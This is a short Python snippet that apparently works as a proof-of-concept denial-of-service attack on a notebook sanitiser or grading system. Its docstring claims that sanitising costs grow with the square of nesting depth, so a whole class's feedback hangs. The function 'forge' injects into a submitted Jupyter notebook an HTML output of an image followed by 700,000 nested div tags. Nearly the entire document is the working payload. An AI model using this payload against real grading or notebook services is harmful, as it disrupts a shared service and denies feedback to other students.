"""Hand in outputs of elements within elements, 4 MB each, with a picture in them; the sanitiser
takes the square of their depth.

Gain: the feedback of the whole class hangs.
"""


def forge(notebook):
    from nbformat.v4 import new_code_cell, new_output

    html = "<img src='data:image/png;base64,iVBO'>" + "<div>" * 700_000
    cell = new_code_cell("'elements'")
    cell.outputs = [new_output("display_data", {"text/html": html})]
    notebook.cells.append(cell)
